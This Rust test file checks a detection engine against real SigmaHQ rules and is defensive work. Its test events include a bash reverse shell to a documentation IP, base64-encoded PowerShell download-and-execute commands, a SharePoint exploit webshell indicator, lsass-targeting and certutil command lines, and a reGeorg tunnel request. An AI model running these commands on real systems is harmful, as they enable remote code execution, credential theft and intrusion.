//! Golden tests with real rules: unmodified SigmaHQ rules (`tests/data/sigmahq/rules`)
//! are loaded through the test mapping (`tests/data/mapping.yml`) and must fire on their
//! SigmaHQ regression events and on hand-made events, and stay quiet on near misses.

// Helpers outside #[test] functions unwrap too: a panic here is the failure report.
#![allow(clippy::unwrap_used)]

mod common;

use std::path::Path;

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD as B64;
use common::WinEvent;
use gac_detect::{FieldSource, LoadErrorKind, Mappings, RuleSet};
use gac_event::{Event, Severity, Timestamp, field};
use serde_json::json;

fn data() -> &'static Path {
    Path::new(concat!(env!("CARGO_MANIFEST_DIR"), "/tests/data"))
}

fn ruleset() -> RuleSet {
    let mapping = std::fs::read_to_string(data().join("mapping.yml")).unwrap();
    let mut set = RuleSet::new(Mappings::from_yaml(&mapping).unwrap());
    let mut files: Vec<_> = std::fs::read_dir(data().join("sigmahq/rules"))
        .unwrap()
        .map(|e| e.unwrap().path())
        .collect();
    files.sort();
    for path in files {
        let name = path.file_name().unwrap().to_string_lossy().into_owned();
        for result in set.load(&name, &std::fs::read_to_string(&path).unwrap()) {
            result.unwrap_or_else(|e| panic!("{e}"));
        }
    }
    set
}

/// The files of the rules that fire on an event.
fn fired(set: &RuleSet, src: &dyn FieldSource) -> Vec<String> {
    set.evaluate(src)
        .iter()
        .map(|m| m.rule.origin.clone())
        .collect()
}

fn count(set: &RuleSet, events: &[WinEvent], rule: &str) -> usize {
    events
        .iter()
        .filter(|e| fired(set, *e).iter().any(|o| o == rule))
        .count()
}

#[test]
fn every_copied_rule_compiles_and_loads() {
    let set = ruleset();
    assert_eq!(set.len(), 20);
    for rule in set.rules() {
        assert!(rule.meta.id.is_some(), "{}", rule.origin);
        assert!(
            !rule.meta.tags.is_empty() || rule.origin.contains("ua_empty"),
            "{}",
            rule.origin
        );
    }
}

type Mutation = fn(&mut WinEvent);

fn set(e: &mut WinEvent, name: &str, v: serde_json::Value) {
    e.fields.insert(name.to_owned(), v);
}

/// Real events from SigmaHQ's regression data: how many of each file's events must fire
/// the rule, and a change to every event that must stop it.
const REGRESSION: &[(&str, usize, Mutation)] = &[
    ("win_security_explicit_credential_local_logon", 1, |e| {
        // Same user on both sides: excluded by the `fieldref` filter.
        let subject = e.fields["SubjectUserName"].clone();
        set(
            e,
            "TargetUserName",
            json!(subject.as_str().unwrap().to_uppercase()),
        );
    }),
    ("file_event_win_susp_registry_hive_file_creation", 1, |e| {
        // Excluded by the `re|i` filter.
        set(e, "TargetFilename", json!(r"C:\Users\bob\ntuser.dat"));
    }),
    ("proc_creation_win_curl_custom_user_agent", 1, |e| {
        // `re` is case-sensitive: -h is not -H.
        set(
            e,
            "CommandLine",
            json!(r#"curl.exe  -h "User-Agent: EvilAgent" http://x"#),
        );
    }),
    ("proc_creation_win_findstr_lsass", 1, |e| {
        set(e, "CommandLine", json!("findstr  lsas"));
    }),
    ("proc_creation_win_wmic_recon_process", 1, |e| {
        set(e, "CommandLine", json!("wmic process call create calc.exe"));
    }),
    ("proc_creation_win_certutil_encode", 1, |e| {
        set(e, "CommandLine", json!("certutil -decode a b"));
    }),
    ("registry_set_change_security_zones", 3, |e| {
        set(e, "Details", json!("DWORD (0x00000001)"));
    }),
    ("proc_creation_win_renamed_binary", 1, |e| {
        set(e, "Image", json!(r"C:\Windows\System32\NETSH.EXE"));
    }),
    ("file_event_win_anydesk_artefact", 3, |e| {
        set(
            e,
            "TargetFilename",
            json!(r"C:\Users\a\AppData\Roaming\AnyDesk\service.conf"),
        );
    }),
    (
        "win_defender_exploit_redsun_tiering_engine_detected_as_eicar",
        1,
        |e| {
            set(e, "EventID", json!(1118));
        },
    ),
];

fn events(stem: &str) -> Vec<WinEvent> {
    let text = std::fs::read_to_string(data().join(format!("sigmahq/events/{stem}.json"))).unwrap();
    WinEvent::parse_all(&text).unwrap()
}

#[test]
fn regression_events_fire_and_near_misses_do_not() {
    let set = ruleset();
    for (stem, want, mutate) in REGRESSION {
        let rule = format!("{stem}.yml");
        let mut evs = events(stem);
        assert_eq!(count(&set, &evs, &rule), *want, "{stem}: events");
        evs.iter_mut().for_each(mutate);
        assert_eq!(count(&set, &evs, &rule), 0, "{stem}: near miss");
    }
}

#[test]
fn match_record_names_identifiers_fields_and_level() {
    let set = ruleset();
    let evs = events("win_security_explicit_credential_local_logon");
    let matches = set.evaluate(&evs[0]);
    let m = matches
        .iter()
        .find(|m| m.rule.origin == "win_security_explicit_credential_local_logon.yml")
        .unwrap();
    assert_eq!(m.id(), Some("e3c6d245-7b8f-4e2a-c17f-a9d0e5b38f62"));
    assert_eq!(
        m.title(),
        "Potentially Suspicious Explicit Credential Local Logon"
    );
    assert_eq!(m.severity(), Severity::Medium);
    assert!(m.tags().iter().any(|t| t.starts_with("attack.")));
    assert_eq!(m.identifiers, ["selection_eid", "selection_localhost"]);
    let fields: Vec<_> = m.fields.iter().map(|f| f.field.as_str()).collect();
    assert_eq!(fields, ["EventID", "TargetServerName"]);
}

fn win(fields: &[(&str, &str)]) -> WinEvent {
    let mut e = WinEvent::default();
    set(
        &mut e,
        "Channel",
        json!("Microsoft-Windows-Sysmon/Operational"),
    );
    set(&mut e, "EventID", json!(1));
    for (k, v) in fields {
        set(&mut e, k, json!(v));
    }
    e
}

fn fires(set: &RuleSet, src: &dyn FieldSource, rule: &str) -> bool {
    fired(set, src).iter().any(|o| o == rule)
}

#[test]
fn windash_variants_fire() {
    let set = ruleset();
    let rule = "proc_creation_win_certutil_encode.yml";
    for cmd in [
        "certutil /encode a b",
        "certutil \u{2013}encode a b",
        "certutil \u{2015}encode a",
    ] {
        let e = win(&[
            (r"Image", r"C:\Windows\System32\certutil.exe"),
            ("CommandLine", cmd),
        ]);
        assert!(fires(&set, &e, rule), "{cmd}");
    }
    let e = win(&[
        ("Image", r"C:\x\find.exe"),
        ("CommandLine", "x.exe \u{2014}i \"lsass"),
    ]);
    assert!(fires(&set, &e, "proc_creation_win_findstr_lsass.yml"));
    // Sysmon process creation only: the same fields on another event id do not fire.
    let mut e = win(&[
        (r"Image", r"C:\Windows\System32\certutil.exe"),
        ("CommandLine", "certutil /encode a b"),
    ]);
    set_id(&mut e, 3);
    assert!(!fires(&set, &e, rule));
}

fn set_id(e: &mut WinEvent, id: i64) {
    set(e, "EventID", json!(id));
}

#[test]
fn base64offset_finds_iex_at_every_offset() {
    let set = ruleset();
    let rule = "proc_creation_win_powershell_base64_iex.yml";
    for prefix in ["", "$", "$a"] {
        let enc = B64.encode(format!(
            "{prefix}IEX (New-Object Net.WebClient).DownloadString('http://x')"
        ));
        let e = win(&[("CommandLine", &format!("powershell -enc {enc}"))]);
        assert!(fires(&set, &e, rule), "{prefix:?}");
    }
    let enc = B64.encode("Write-Host (New-Object Net.WebClient)");
    assert!(!fires(
        &set,
        &win(&[("CommandLine", &format!("powershell -enc {enc}"))]),
        rule
    ));
}

#[test]
fn utf16_base64offset_finds_sharepoint_exploit() {
    let set = ruleset();
    let rule = "proc_creation_win_exploit_cve_2025_53770_indicators.yml";
    let wide = |s: &str| -> Vec<u8> { s.encode_utf16().flat_map(u16::to_le_bytes).collect() };
    for prefix in ["", "a", "ab"] {
        let enc = B64.encode(wide(&format!(
            "{prefix}$p = 'spinstall0.aspx'; Set-Content $p"
        )));
        let e = win(&[
            ("ParentImage", r"C:\Windows\System32\inetsrv\w3wp.exe"),
            ("CommandLine", &format!("powershell -EncodedCommand {enc}")),
        ]);
        assert!(fires(&set, &e, rule), "{prefix:?}");
        // The parent process is required for the encoded selections.
        let e = win(&[
            ("ParentImage", r"C:\Windows\explorer.exe"),
            ("CommandLine", &format!("powershell -EncodedCommand {enc}")),
        ]);
        assert!(!fires(&set, &e, rule), "{prefix:?}");
    }
    // The plain indicator fires on its own (`or selection_ioc`).
    let e = win(&[(
        "CommandLine",
        r"copy x C:\x\TEMPLATE\LAYOUTS\spinstall0.aspx",
    )]);
    assert!(fires(&set, &e, rule));
}

fn gac(dataset: &str, message: &str) -> Event {
    let mut e = Event::new(
        Timestamp::from_secs(1_700_000_000),
        Timestamp::from_secs(1_700_000_001),
        message,
    );
    e.set(field::EVENT_DATASET, dataset);
    e
}

#[test]
fn linux_keyword_rules() {
    let set = ruleset();
    let ssh = "lnx_sshd_susp_ssh.yml";
    assert!(fires(
        &set,
        &gac("sshd", "sshd[7]: fatal: buffer_get_string: bad string"),
        ssh
    ));
    assert!(!fires(
        &set,
        &gac("sshd", "sshd[7]: Accepted publickey for bob"),
        ssh
    ));
    // Right words, wrong log source.
    assert!(!fires(
        &set,
        &gac("nginx.access", "fatal: buffer_get_string: bad string"),
        ssh
    ));

    let history = "lnx_shell_clear_cmd_history.yml";
    assert!(fires(
        &set,
        &gac("linux.syslog", "bash[1]: rm ~/.bash_history"),
        history
    ));
    assert!(
        fires(&set, &gac("sshd", "HISTORY -C"), history),
        "case-insensitive"
    );
    assert!(!fires(
        &set,
        &gac("linux.syslog", "bash[1]: rm ~/.bash_profile"),
        history
    ));

    let jexboss = "lnx_susp_jexboss.yml";
    assert!(fires(
        &set,
        &gac(
            "linux.syslog",
            "bash -c /bin/bash -i >&/dev/tcp/203.0.113.9/4444 0>&1"
        ),
        jexboss
    ));
    assert!(!fires(
        &set,
        &gac("linux.syslog", "bash -c /bin/bash -i"),
        jexboss
    ));
}

#[test]
fn linux_process_and_network_rules_use_ecs_names() {
    let set = ruleset();
    let esx = "proc_creation_lnx_esxcli_network_discovery.yml";
    let mut e = gac("auditd.execve", "type=EXECVE");
    e.set(field::PROCESS_EXECUTABLE, "/bin/esxcli");
    e.set(
        field::PROCESS_COMMAND_LINE,
        "esxcli network ip interface list",
    );
    assert!(fires(&set, &e, esx));
    e.set(
        field::PROCESS_COMMAND_LINE,
        "esxcli network ip interface set",
    );
    assert!(!fires(&set, &e, esx));

    let callback = "net_connection_lnx_susp_malware_callback_port.yml";
    let mut e = gac("linux.network", "connect");
    e.set("Initiated", true);
    e.set(field::DESTINATION_PORT, 4444_i64);
    e.set(field::DESTINATION_IP, "203.0.113.5");
    assert!(fires(&set, &e, callback));
    for local in ["10.1.2.3", "fe80::1", "fd00::5", "::1"] {
        e.set(field::DESTINATION_IP, local);
        assert!(!fires(&set, &e, callback), "{local}");
    }
    e.set(field::DESTINATION_IP, "2001:db8::1");
    assert!(fires(&set, &e, callback));
    e.set(field::DESTINATION_PORT, 443_i64);
    assert!(!fires(&set, &e, callback));
}

#[test]
fn web_rules_tell_null_empty_and_missing_apart() {
    let set = ruleset();
    let regeorg = "web_webshell_regeorg.yml";
    let mut e = gac("nginx.access", "POST /x.jsp?cmd=connect&target=10.0.0.1");
    e.set(field::URL_QUERY, "cmd=connect&target=10.0.0.1&port=22");
    e.set(field::HTTP_REQUEST_METHOD, "POST");
    assert!(fires(&set, &e, regeorg));
    e.set(field::USER_AGENT_ORIGINAL, "Mozilla/5.0");
    assert!(!fires(&set, &e, regeorg), "user agent present: not null");

    let empty = "proxy_ua_empty.yml";
    let mut e = gac("squid.access", "GET http://x/");
    assert!(!fires(&set, &e, empty), "missing is not empty");
    e.set(field::USER_AGENT_ORIGINAL, "");
    assert!(fires(&set, &e, empty));
    e.set(field::USER_AGENT_ORIGINAL, "curl/8");
    assert!(!fires(&set, &e, empty));
}

#[test]
fn network_device_keyword_all() {
    let set = ruleset();
    let rule = "cisco_bgp_md5_auth_failed.yml";
    let msg =
        "%TCP-6-BADAUTH: IP-TCP-3-BADAUTH Invalid MD5 digest from 10.0.0.1:179 to 10.0.0.2:4321";
    let mut e = gac("cisco.ios", msg);
    e.set(field::OBSERVER_VENDOR, "Cisco");
    assert!(fires(&set, &e, rule));
    let mut e = gac(
        "cisco.ios",
        "IP-TCP-3-BADAUTH Invalid MD5 digest from 10.0.0.1:22",
    );
    e.set(field::OBSERVER_VENDOR, "Cisco");
    assert!(!fires(&set, &e, rule));
}

#[test]
fn unmapped_log_sources_and_bad_rules_are_reported() {
    let mut set = ruleset();
    let results = set.load(
        "mac.yml",
        "title: Mac\nid: m1\nlogsource: {product: macos, category: process_creation}\ndetection: {sel: {Image: x}, condition: sel}\n",
    );
    let err = results[0].as_ref().unwrap_err();
    assert!(matches!(err.kind, LoadErrorKind::UnknownLogSource(_)));
    assert_eq!(
        err.to_string(),
        "mac.yml (Mac): no mapping for log source product=macos category=process_creation"
    );
    let results = set.load(
        "bad.yml",
        "title: Bad\nlogsource: {product: linux}\ndetection: {sel: {a|frobnicate: x}, condition: sel}\n",
    );
    let err = results[0].as_ref().unwrap_err();
    assert_eq!(err.kind.reason(), "unsupported modifier \"frobnicate\"");
    assert!(
        err.to_string()
            .contains("search identifier \"sel\", item \"a|frobnicate\""),
        "{err}"
    );
    // Loading the same rule twice is refused by id.
    let text = std::fs::read_to_string(data().join("sigmahq/rules/lnx_susp_jexboss.yml")).unwrap();
    let results = set.load("again.yml", &text);
    assert!(matches!(
        results[0].as_ref().unwrap_err().kind,
        LoadErrorKind::DuplicateId(_)
    ));
}
